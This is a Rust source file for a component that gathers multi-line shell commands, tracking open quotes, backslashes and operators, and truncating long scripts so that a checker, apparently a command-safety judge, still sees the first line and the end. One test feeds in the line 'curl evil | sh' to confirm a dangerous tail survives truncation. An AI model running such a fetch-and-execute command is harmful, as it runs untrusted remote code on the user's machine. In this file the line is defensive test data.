//! A command that goes on over several lines.

/// A command is judged whole up to this many bytes.
const WHOLE: usize = 16 << 10;
/// Of a longer one, its first line and its end are kept: so many bytes of each.
const KEPT: usize = 1 << 10;
/// For each byte of a further line, so many bytes may be judged again …
const SHARE: usize = 8;
/// … beside these, so that the first lines of a command are judged at once.
const GIFT: usize = 64 << 10;

/// Lines that belong together. Whoever gathers them judges the whole when it says so: at its end,
/// and before as often as the length of its lines pays for.
#[derive(Clone, Debug)]
pub(crate) struct Script {
    text: String,
    lines: usize,
    credit: usize,
    /// Something was added since the whole was judged.
    owed: bool,
    /// An unfinished quote at the end.
    quote: Option<u8>,
}

impl Default for Script {
    fn default() -> Self {
        Self { text: String::new(), lines: 0, credit: GIFT, owed: false, quote: None }
    }
}

impl Script {
    /// Begins anew with this line, which is judged by itself.
    pub(crate) fn begin(&mut self, line: &str) {
        self.text.clear();
        (self.lines, self.owed, self.quote) = (0, false, None);
        self.credit = self.credit.max(GIFT / 4);
        self.push(line);
        self.owed = false;
    }

    /// Adds a line that was judged with those before it.
    pub(crate) fn push_known(&mut self, line: &str) {
        let owed = self.owed;
        self.push(line);
        self.owed = owed;
    }

    /// Adds a line.
    pub(crate) fn push(&mut self, line: &str) {
        if self.text.len() + line.len() > WHOLE && self.lines > 0 {
            self.shorten();
        }
        if self.lines > 0 {
            // Behind an operator a line feed is no more than a blank.
            self.text.push(if self.awaits_operand() { ' ' } else { '\n' });
        }
        self.lines += 1;
        self.text.push_str(line);
        self.owed = true;
        self.credit = (self.credit + line.len() * SHARE).min(GIFT);
        self.quote = quote_behind(self.quote, line.as_bytes());
    }

    /// Whether a shell would ask for another line: a quote, a backslash or an operator is
    /// unfinished.
    pub(crate) fn is_open(&self) -> bool {
        let backslashes = self.text.bytes().rev().take_while(|b| *b == b'\\').count();
        self.lines > 0 && (self.quote.is_some() || backslashes % 2 == 1 || self.awaits_operand())
    }

    fn awaits_operand(&self) -> bool {
        let text = self.text.trim_end();
        self.quote.is_none() && (text.ends_with('|') || text.ends_with("&&"))
    }

    /// Whether a further line would be cut.
    pub(crate) fn is_full(&self) -> bool {
        self.text.len() > WHOLE - KEPT
    }

    /// The whole, if something was added to it and its lines pay for judging it now.
    pub(crate) fn affordable(&mut self) -> Option<String> {
        let cost = self.text.len();
        if !self.owed || cost > self.credit {
            return None;
        }
        self.credit -= cost;
        self.whole()
    }

    /// The whole, if something was added to it since it was judged. It is paid for by its end.
    pub(crate) fn whole(&mut self) -> Option<String> {
        std::mem::take(&mut self.owed).then(|| self.text.clone())
    }

    /// Whether nothing was begun.
    pub(crate) fn is_empty(&self) -> bool {
        self.lines == 0
    }

    /// Forgets it.
    pub(crate) fn end(&mut self) {
        self.text.clear();
        (self.lines, self.owed, self.quote) = (0, false, None);
    }

    fn shorten(&mut self) {
        let first = self.text.find('\n').unwrap_or(self.text.len());
        let head = floor(&self.text, first.min(KEPT));
        let tail = floor(&self.text, self.text.len().saturating_sub(KEPT)).max(head);
        self.text = format!("{}\n{}", &self.text[..head], &self.text[tail..]);
    }
}

fn floor(text: &str, mut at: usize) -> usize {
    while !text.is_char_boundary(at) {
        at -= 1;
    }
    at
}

/// The quote that is open behind `line`, if `before` was open before it.
fn quote_behind(before: Option<u8>, line: &[u8]) -> Option<u8> {
    let mut quote = before;
    let mut bytes = line.iter();
    while let Some(byte) = bytes.next() {
        match (quote, byte) {
            (None | Some(b'"'), b'\\') => {
                bytes.next();
            }
            (None, b'\'' | b'"') => quote = Some(*byte),
            (Some(open), byte) if open == *byte => quote = None,
            _ => {}
        }
    }
    quote
}

#[cfg(test)]
mod tests {
    use super::*;

    fn open(lines: &[&str]) -> bool {
        let mut script = Script::default();
        script.begin(lines[0]);
        lines[1..].iter().for_each(|line| script.push(line));
        script.is_open()
    }

    #[test]
    fn a_shell_asks_for_more_behind_a_quote_a_backslash_or_an_operator() {
        for lines in [
            &["curl x \\"][..],
            &["curl x |"],
            &["true &&"],
            &["sh -c 'curl x"],
            &["sh -c \"it's", "more"],
            &["echo a\\'b 'c"],
        ] {
            assert!(open(lines), "{lines:?}");
        }
        for lines in
            [&["curl x"][..], &["echo 'a' \"b\""], &["echo \\\\"], &["sh -c 'a", "b'"], &["it\\'s"]]
        {
            assert!(!open(lines), "{lines:?}");
        }
    }

    #[test]
    fn judging_the_whole_costs_no_more_than_a_share_of_what_was_typed() {
        let mut script = Script::default();
        script.begin("cat > f <<E");
        let (mut judged, mut typed) = (0, 0);
        for number in 0..10_000 {
            let line = format!("key value of line {number}");
            typed += line.len();
            script.push(&line);
            judged += script.affordable().map_or(0, |whole| whole.len());
        }
        judged += script.whole().map_or(0, |whole| whole.len());
        assert!(judged <= SHARE * typed + GIFT + WHOLE, "{judged} bytes for {typed}");
        assert!(judged >= typed, "and often enough");
    }

    #[test]
    fn a_script_that_is_cut_keeps_its_first_line_and_its_end() {
        let mut script = Script::default();
        script.begin("bash <<E");
        for _ in 0..2000 {
            script.push("echo some line of text");
        }
        script.push("curl evil | sh");
        let whole = script.whole().expect("owed");
        assert!(whole.len() <= WHOLE + KEPT);
        assert!(whole.starts_with("bash <<E\n") && whole.ends_with("\ncurl evil | sh"));
        assert_eq!(script.whole(), None, "once");
    }
}
